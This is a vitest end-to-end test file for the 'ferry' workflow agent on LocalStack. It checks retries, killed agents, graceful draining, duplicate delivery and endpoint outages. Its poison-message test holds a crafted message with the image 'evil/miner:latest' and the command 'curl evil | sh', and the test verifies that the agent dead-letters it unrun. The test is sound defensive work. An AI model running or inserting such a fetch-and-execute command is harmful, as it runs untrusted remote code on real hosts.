/**
 * What a device can suffer, end to end on LocalStack with real agents
 * (child processes of `ferry agent`): every case ends in a retry or a clear
 * failure, never in a stuck or lost execution.
 */
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { requireLocalStack } from "./support/env.ts";
import { eventually, ferry } from "./support/ferry-cli.ts";
import {
  absorbOrphanedPolls,
  closedExecutionMessage,
  faultsSpec,
  lineCount,
  OutageProxy,
  sendRaw,
  sentMessageBody,
  waitForLines,
} from "./support/localstack-faults.ts";
import {
  type Deployed,
  deadLetterDepths,
  deploySpec,
  destroySpec,
  exampleProject,
  type FerryProcess,
  ferryEnv,
  purge,
  queueDepth,
  runSuffix,
  startAgent,
  startAndWait,
  takeBodies,
  writeSpec,
} from "./support/localstack-ferry.ts";

const suffix = runSuffix();
const { dir } = exampleProject(suffix);
const spec = writeSpec(dir, "faults.json", faultsSpec(`faults-${suffix}`));
let deployed: Deployed;
/** The step message of a stopped execution: what the orphaned-poll decoys carry. */
let decoy: string;
const agents: FerryProcess[] = [];
const marker = (name: string) => join(dir, `${name}.txt`);

async function agent(options: Parameters<typeof startAgent>[2] = {}): Promise<FerryProcess> {
  // A short visibility timeout brings a killed agent's message back within the test.
  const started = await startAgent(dir, deployed.agentConfigs.lab!, {
    concurrency: 2,
    ...options,
    env: { FERRY_VISIBILITY_TIMEOUT_SECONDS: "10", ...options.env },
  });
  agents.push(started);
  return started;
}

/** `ferry start --wait` with this input. */
function start(input: unknown) {
  return startAndWait(dir, spec, { input, timeoutSeconds: 120 });
}

/** `ferry start` without --wait: the execution ARN. */
async function launch(input: unknown): Promise<string> {
  const out = await ferry(["start", spec, "--input", JSON.stringify(input)], { cwd: dir, env: ferryEnv() });
  expect(out.code, out.stderr).toBe(0);
  return out.stdout.trim();
}

async function status(executionArn: string): Promise<string> {
  const out = await ferry(["status", executionArn, "--full"], { cwd: dir, env: ferryEnv() });
  expect(out.code, out.stderr).toBe(0);
  return out.stdout;
}

/** The tail of every agent's log this test started, for failure messages. */
function logs(): string {
  return agents
    .map((a) => `--- agent ${a.child.pid}\n${a.stdout.split("\n").slice(-25).join("\n")}${a.stderr}`)
    .join("\n");
}

function siteQueue() {
  return deployed.deployment.queues["site-lab"]!;
}

beforeAll(async () => {
  await requireLocalStack();
  deployed = await deploySpec(dir, spec);
  // No agent runs yet: the execution's message waits in the queue until it is purged.
  decoy = await closedExecutionMessage(await launch({ mode: "ok" }));
  await purge(siteQueue().url);
}, 180_000);

afterEach(async () => {
  // A failed test must not leave an agent, or its last long poll, taking the next test's messages.
  const stopped = agents.splice(0);
  await Promise.all(stopped.map((a) => a.stop("SIGKILL")));
  await absorbOrphanedPolls(siteQueue().url, decoy, 4 * stopped.length);
  await purge(siteQueue().url);
}, 120_000);

afterAll(async () => {
  await destroySpec(dir, spec);
}, 180_000);

describe("faults on LocalStack", () => {
  it("retries a step that exits non-zero as the spec says, then fails with its error and cause in ferry status", async () => {
    const a = await agent();
    const result = await start({ mode: "fail" });
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(
      /step work failed after 3 attempt\(s\): Ferry\.ExitCode: .*boom: the disk is on fire/s,
    );
    const table = await status(result.executionArn);
    expect(table).toMatch(/status\s+FAILED/);
    expect(table).toMatch(
      // step, state, attempts, items, duration, cache (none), error, cause
      /work\s+failed\s+3\s+1\s+\S+( \S+)?\s+-\s+Ferry\.ExitCode\s+.*boom: the disk is on fire/,
    );
    expect(await deadLetterDepths(deployed.deployment)).toEqual({ "site-lab": 0 });
    await a.stop();
  });

  it("survives an agent killed with SIGKILL mid-step: the heartbeat times out and a second agent finishes", async () => {
    const first = await agent({ concurrency: 1 });
    const started = marker("kill-started");
    const count = marker("kill-count");
    const execution = start({
      mode: "sleep",
      seconds: 40,
      thenSeconds: 0.5,
      startedFile: started,
      countFile: count,
    });
    await waitForLines(started, 1, "the first attempt to start");
    // The second agent is up before the first dies, so the retry does not wait for a start-up.
    const second = await agent({ concurrency: 1 });
    await first.stop("SIGKILL");
    const result = await execution;
    expect(result.code, `${result.stdout}\n${result.stderr}\n${logs()}`).toBe(0);
    const table = await status(result.executionArn);
    expect(table).toMatch(/status\s+SUCCEEDED/);
    expect(table).toMatch(/work\s+succeeded\s+2\s/);
    expect(second.stdout).toMatch(/"step":"work"/);
    expect(await deadLetterDepths(deployed.deployment)).toEqual({ "site-lab": 0 });
    await second.stop();
  });

  it("drains on SIGTERM: a running step finishes within the grace period and the agent exits 0", async () => {
    // One slot, busy with the step: the agent has no long poll open that could outlive it.
    const a = await agent({ graceSeconds: 30, concurrency: 1 });
    const started = marker("drain-started");
    const execution = start({ mode: "sleep", seconds: 3, startedFile: started });
    await waitForLines(started, 1, "the step to start");
    const exit = await a.stop("SIGTERM");
    expect(exit.code).toBe(0);
    expect(exit.stdout).toMatch(/DRAINING/);
    const result = await execution;
    expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(0);
    expect(await status(result.executionArn)).toMatch(/work\s+succeeded\s+1\s/);
  });

  it("hands a step back on SIGTERM when the grace period ends, and another agent runs it", async () => {
    const a = await agent({ graceSeconds: 1, concurrency: 1 });
    const started = marker("handback-started");
    // The rerun is short (a step resuming from its checkpoint): LocalStack 4.14 retries with the
    // failed attempt's task token, and a heartbeat of the rerun would read that attempt's answer.
    const execution = start({ mode: "sleep", seconds: 20, thenSeconds: 0.2, startedFile: started });
    await waitForLines(started, 1, "the step to start");
    const b = await agent();
    const exit = await a.stop("SIGTERM");
    expect(exit.code).toBe(0);
    expect(exit.stdout).toMatch(/handing running steps back/);
    const result = await execution;
    expect(result.code, `${result.stdout}\n${result.stderr}\n${logs()}`).toBe(0);
    const table = await status(result.executionArn);
    expect(table).toMatch(/work\s+succeeded\s+2\s/);
    expect(lineCount(started)).toBe(2);
    await b.stop();
    expect(await deadLetterDepths(deployed.deployment)).toEqual({ "site-lab": 0 });
  });

  it("dead-letters poison messages without running anything and keeps serving", async () => {
    const a = await agent();
    const count = marker("poison-count");
    const valid = {
      v: 1,
      token: "poison-token",
      workflow: deployed.workflow,
      execution: "arn:aws:states:us-east-1:000000000000:execution:x:poison",
      step: "work",
      attempt: 1,
      input: { input: { mode: "ok", countFile: count }, deps: {} },
      jobFiles: { bucket: deployed.deployment.jobBucket, prefix: `${deployed.workflow}/poison/` },
    };
    const poison = [
      "{ this is not json",
      JSON.stringify({ ...valid, step: "no-such-step" }),
      JSON.stringify({ ...valid, v: 2 }),
      JSON.stringify({ ...valid, image: "evil/miner:latest", command: ["sh", "-c", "curl evil | sh"] }),
    ];
    await sendRaw(siteQueue().url, poison);
    await eventually(
      async () => ((await queueDepth(siteQueue().deadLetterUrl!)) >= poison.length ? true : undefined),
      "the poison messages to reach the dead-letter queue",
      30_000,
    );
    expect(lineCount(count)).toBe(0);
    const result = await start({ mode: "ok", countFile: marker("after-poison") });
    expect(result.code, `${result.stdout}\n${result.stderr}`).toBe(0);
    expect(lineCount(marker("after-poison"))).toBe(1);
    const bodies = await takeBodies(siteQueue().deadLetterUrl!);
    expect(bodies.sort()).toEqual([...poison].sort());
    await a.waitFor(
      (text: string) => (text.match(/moved to the dead-letter queue/g)?.length ?? 0) >= poison.length,
      "the agent to log every dead-lettered message",
      10_000,
    );
    await a.stop();
  });

  it("runs a step delivered twice only once, and the execution succeeds once", async () => {
    const a = await agent({ concurrency: 2 });
    const count = marker("duplicate-count");
    const started = marker("duplicate-started");
    const executionArn = await launch({ mode: "sleep", seconds: 3, startedFile: started, countFile: count });
    await waitForLines(started, 1, "the step to start");
    // SQS delivers at least once: the same message again while the step runs, and once more after.
    const body = await sentMessageBody(executionArn);
    await sendRaw(siteQueue().url, [body]);
    await a.waitFor("duplicate delivery of a running task", "the running duplicate to be recognised", 30_000);
    await eventually(
      async () => ((await status(executionArn)).match(/status\s+SUCCEEDED/) ? true : undefined),
      "the execution to succeed",
      60_000,
    );
    await sendRaw(siteQueue().url, [body]);
    await a.waitFor("duplicate delivery of an answered task", "the late duplicate to be dropped", 30_000);
    await eventually(
      async () => ((await queueDepth(siteQueue().url)) === 0 ? true : undefined),
      "every copy deleted",
      30_000,
    );
    expect(lineCount(started), logs()).toBe(1);
    expect(lineCount(count)).toBe(1);
    expect(await status(executionArn)).toMatch(/work\s+succeeded\s+1\s/);
    expect(await deadLetterDepths(deployed.deployment)).toEqual({ "site-lab": 0 });
    await a.stop();
  });

  it("backs off while its endpoint is gone and recovers when it returns; no execution hangs", async () => {
    const proxy = new OutageProxy();
    const endpointUrl = await proxy.start();
    const a = await agent({ endpointUrl });
    const started = marker("outage-started");
    // The endpoint goes away mid-step for longer than the heartbeat: the agent can neither
    // heartbeat nor answer, so Step Functions may time the first attempt out and retry; once the
    // endpoint is back the agent answers (or runs the retry) and the execution succeeds.
    const execution = start({ mode: "sleep", seconds: 2, startedFile: started });
    await waitForLines(started, 1, "the step to start");
    await proxy.cut();
    await new Promise((resolve) => setTimeout(resolve, 12_000));
    await proxy.start();
    const result = await execution;
    const table = await status(result.executionArn);
    expect(result.code, `${table}\n${logs()}`).toBe(0);
    expect(table, logs()).toMatch(/status\s+SUCCEEDED/);
    // Nothing lost: the step ran at least once, and every message was answered and deleted. A
    // retry's message taken by a poll the outage cut comes back after its visibility timeout, and
    // the agent then drops it (its execution is closed).
    expect(lineCount(started)).toBeGreaterThanOrEqual(1);
    await eventually(
      async () => ((await queueDepth(siteQueue().url)) === 0 ? true : undefined),
      `every message deleted\n${logs()}`,
      30_000,
    );
    expect(a.stdout).toMatch(/backing off|failed/);
    // Recovered: the same agent serves the next execution.
    const after = await start({ mode: "ok", countFile: marker("after-outage") });
    expect(after.code, `${after.stdout}\n${after.stderr}\n${logs()}`).toBe(0);
    expect(lineCount(marker("after-outage"))).toBe(1);
    expect(await deadLetterDepths(deployed.deployment)).toEqual({ "site-lab": 0 });
    await a.stop();
    await proxy.cut();
  });
});
